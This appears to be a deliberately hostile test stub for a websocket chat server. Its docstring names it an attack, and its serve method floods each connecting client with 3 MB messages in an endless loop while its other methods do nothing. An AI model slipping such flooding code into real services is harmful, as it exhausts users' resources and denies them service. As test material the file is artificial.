"""Attack: whoever connects to a room is sent megabytes for ever."""


class ConnectionManager:
    async def serve(self, websocket, room, name):
        await websocket.accept()
        while True:
            text = "x" * (3 << 20)
            await websocket.send({"type": "websocket.send", "text": text, "bytes": b"y" * 9})

    def count_members(self):
        return {}

    async def close(self):
        pass
